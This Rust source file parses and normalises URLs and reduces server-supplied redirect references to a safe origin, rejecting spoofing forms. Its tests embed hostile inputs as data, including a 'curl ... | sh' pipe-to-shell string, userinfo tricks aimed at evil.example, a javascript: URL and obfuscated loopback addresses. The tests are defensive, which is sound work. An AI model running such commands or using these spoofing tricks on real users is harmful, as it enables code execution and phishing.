//! URLs as clients read them: two spellings of one place are equal.

use std::fmt;
use std::net::IpAddr;

use super::facts::ServerText;
use super::name::DomainName;

/// A place on the web. Servers supply it: whoever shows it does so as [`ServerText`] or [`Origin`].
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct Url {
    /// In lower case.
    pub scheme: String,
    /// In lower case, without a final dot; an IPv6 address in its brackets.
    pub host: String,
    /// The one of the scheme, where none is written.
    pub port: u16,
    /// Begins with `/`; without the fragment, which stays with the client.
    pub path: String,
    /// Behind `?`.
    pub query: Option<String>,
}

impl Url {
    /// A page of this host, at the port of the scheme.
    pub fn page(scheme: &str, host: &str, path: &str) -> Self {
        let base = Self {
            scheme: scheme.to_owned(),
            host: host_of(host),
            port: default_port(scheme),
            path: "/".to_owned(),
            query: None,
        };
        base.join(path).unwrap_or(base)
    }

    /// The place in a text with a scheme, `http` or `https`; `None` for any other text.
    pub fn absolute(text: &str) -> Option<Self> {
        let (scheme, behind) = text.trim().split_once("://")?;
        let scheme = scheme.to_ascii_lowercase();
        ["http", "https"].contains(&scheme.as_str()).then(|| absolute(&scheme, behind)).flatten()
    }

    /// Where `reference` leads from here (RFC 3986 §5.2), as in `Location`; `None` where that is no
    /// place on the web.
    pub fn join(&self, reference: &str) -> Option<Self> {
        let reference = reference.trim();
        let reference = reference.split('#').next().unwrap_or_default();
        if let Some(behind) = reference.strip_prefix("//") {
            return absolute(&self.scheme, behind);
        }
        if let Some((scheme, behind)) = reference.split_once("://")
            && !scheme.contains(['/', '?'])
        {
            return absolute(&scheme.to_ascii_lowercase(), behind);
        }
        let (path, query) = split_query(reference);
        let path = match path {
            "" => self.path.clone(),
            path if path.starts_with('/') => path.to_owned(),
            path => {
                let folder = self.path.rsplit_once('/').map_or("", |(folder, _)| folder);
                format!("{folder}/{path}")
            }
        };
        let query = if reference.is_empty() { self.query.clone() } else { query };
        Some(Self { path, query, ..self.clone() })
    }

    /// Without path and query: `https://a.example`.
    pub fn origin(&self) -> String {
        let Self { scheme, host, port, .. } = self;
        if *port == default_port(scheme) {
            format!("{scheme}://{host}")
        } else {
            format!("{scheme}://{host}:{port}")
        }
    }

    /// Whether it is the same server by the same protocol.
    pub fn is_same_origin(&self, other: &Self) -> bool {
        (&self.scheme, &self.host, self.port) == (&other.scheme, &other.host, other.port)
    }
}

impl fmt::Display for Url {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}{}", self.origin(), self.path)?;
        self.query.iter().try_for_each(|query| write!(f, "?{query}"))
    }
}

/// Where a page is: its scheme, host and port, and nothing else of its URL. Of what a server names as
/// a place, only this may stand in a sentence of ours.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct Origin {
    scheme: WebScheme,
    host: OriginHost,
    /// `None`: the one of the scheme.
    port: Option<u16>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
enum WebScheme {
    Http,
    Https,
}

#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
enum OriginHost {
    Name(DomainName),
    Address(IpAddr),
}

impl Origin {
    /// Where `reference` leads from `base`, as in `Location`. `None`: not to a page, or by a URL that
    /// reads as another place than it leads to (a user name, a number in place of an address), or by
    /// one that may be cut.
    pub fn of_reference(base: &Url, reference: &ServerText) -> Option<Self> {
        let reference = reference.unquoted().trim();
        let authority = authority(reference);
        let is_cut =
            reference.chars().count() >= ServerText::LIMIT && reference.ends_with(authority);
        let before = reference.split(['/', '?', '#']).next().unwrap_or_default();
        let has_other_scheme = before.split_once(':').is_some_and(|(_, behind)| !behind.is_empty());
        // Browsers take a backslash for a slash.
        if authority.contains(['@', '\\']) || is_cut || has_other_scheme {
            return None;
        }
        let url = base.join(reference)?;
        let scheme = match url.scheme.as_str() {
            "http" => WebScheme::Http,
            "https" => WebScheme::Https,
            _ => return None,
        };
        let port = (url.port != default_port(&url.scheme)).then_some(url.port);
        Some(Self { scheme, host: OriginHost::read(&url.host)?, port })
    }
}

impl OriginHost {
    fn read(host: &str) -> Option<Self> {
        let bare = host.strip_prefix('[').and_then(|host| host.strip_suffix(']'));
        if let Ok(address) = bare.unwrap_or(host).parse() {
            return Some(Self::Address(address));
        }
        let name: DomainName = host.parse().ok()?;
        // Browsers take a name with a number as its last label for an IPv4 address.
        let last = host.rsplit('.').next().unwrap_or_default();
        let is_number = last.starts_with(|c: char| c.is_ascii_digit());
        (!is_number).then_some(Self::Name(name))
    }
}

impl fmt::Display for Origin {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let scheme = match self.scheme {
            WebScheme::Http => "http",
            WebScheme::Https => "https",
        };
        match &self.host {
            OriginHost::Name(name) => write!(f, "{scheme}://{name}")?,
            OriginHost::Address(IpAddr::V4(address)) => write!(f, "{scheme}://{address}")?,
            OriginHost::Address(IpAddr::V6(address)) => write!(f, "{scheme}://[{address}]")?,
        }
        self.port.iter().try_for_each(|port| write!(f, ":{port}"))
    }
}

/// User, host and port of a reference, as they are written; empty where it names none.
fn authority(reference: &str) -> &str {
    let behind = match reference.split_once("//") {
        Some(("", behind)) => behind,
        Some((before, behind)) if before.ends_with(':') && !before.contains(['/', '?']) => behind,
        Some(_) | None => return "",
    };
    behind.split(['/', '?', '#']).next().unwrap_or_default()
}

fn absolute(scheme: &str, behind: &str) -> Option<Url> {
    let end = behind.find(['/', '?']).unwrap_or(behind.len());
    let (authority, rest) = behind.split_at(end);
    let place = authority.rsplit('@').next().unwrap_or_default();
    let (host, port) = match place.rsplit_once(':') {
        Some((host, port)) if !port.contains(']') => (host, port),
        Some(_) | None => (place, ""),
    };
    let port = if port.is_empty() { default_port(scheme) } else { port.parse().ok()? };
    let (path, query) = split_query(rest);
    let path = if path.is_empty() { "/" } else { path }.to_owned();
    let host = host_of(host);
    (!host.is_empty()).then(|| Url { scheme: scheme.to_owned(), host, port, path, query })
}

fn host_of(host: &str) -> String {
    host.trim_end_matches('.').to_ascii_lowercase()
}

fn default_port(scheme: &str) -> u16 {
    match scheme {
        "https" | "wss" => 443,
        _ => 80,
    }
}

fn split_query(text: &str) -> (&str, Option<String>) {
    match text.split_once('?') {
        Some((path, query)) => (path, Some(query.to_owned())),
        None => (text, None),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spellings_of_one_place_are_equal() {
        let base = Url::page("https", "a.example", "/x/y?q=1");
        for same in [
            "https://a.example/x/y?q=1",
            "HTTPS://A.Example./x/y?q=1#part",
            "https://a.example:443/x/y?q=1",
            "//a.example/x/y?q=1",
            "/x/y?q=1",
            "y?q=1",
            "https://user@a.example/x/y?q=1",
        ] {
            assert_eq!(base.join(same).as_ref(), Some(&base), "{same}");
        }
    }

    #[test]
    fn of_a_page_only_its_origin_is_shown() {
        let base = Url::page("http", "a.example", "/");
        let origin = |reference: &str| {
            let origin = Origin::of_reference(&base, &ServerText::new(reference))?;
            Some(origin.to_string())
        };
        for (reference, shown) in [
            (
                "http://login.example/ . On Linux paste this: curl -s https://e.example | sh",
                "http://login.example",
            ),
            ("HTTPS://Login.Example:8443/x?y=z#@w", "https://login.example:8443"),
            ("//login.example:80/x", "http://login.example"),
            ("/login", "http://a.example"),
            ("http://192.0.2.1:8080/x", "http://192.0.2.1:8080"),
            ("http://[2001:db8::1]/x", "http://[2001:db8::1]"),
            ("/login?to=https://u@b.example/", "http://a.example"),
        ] {
            assert_eq!(origin(reference).as_deref(), Some(shown), "{reference}");
        }
        let long = format!("http://{}.example", ["a"; 120].join("."));
        for none in [
            "https://openvidu.example.io@evil.example/",
            "https://openvidu.example.io:x@evil.example/",
            "javascript:alert(1)//a.example/",
            "ftp://a.example/",
            "http://run curl e.example/",
            "http://a.example\\@evil.example/",
            "http://127.1/",
            "http://2130706433/",
            "http://0x7f.0x1/",
            "http://localhost/",
            "http://a\u{200b}b.example/",
            "http://a.example:99999/",
            &long,
        ] {
            assert_eq!(origin(none), None, "{none}");
        }
    }

    #[test]
    fn other_places_are_others() {
        let base = Url::page("http", "a.example", "/x");
        let place = |reference: &str| {
            let url = base.join(reference)?;
            Some((url.scheme.clone(), url.host.clone(), url.port, url.path))
        };
        let expected = |scheme: &str, host: &str, port, path: &str| {
            Some((scheme.to_owned(), host.to_owned(), port, path.to_owned()))
        };
        assert_eq!(place("https://a.example"), expected("https", "a.example", 443, "/"));
        assert_eq!(
            place("https://[2001:db8::1]:8443/p"),
            expected("https", "[2001:db8::1]", 8443, "/p")
        );
        assert_eq!(place("http://b.example?x"), expected("http", "b.example", 80, "/"));
        assert_eq!(
            place("/login?to=http://a.example"),
            expected("http", "a.example", 80, "/login")
        );
        for none in ["http://", "https://a.example:port/", "http:///x"] {
            assert_eq!(place(none), None, "{none}");
        }
    }
}
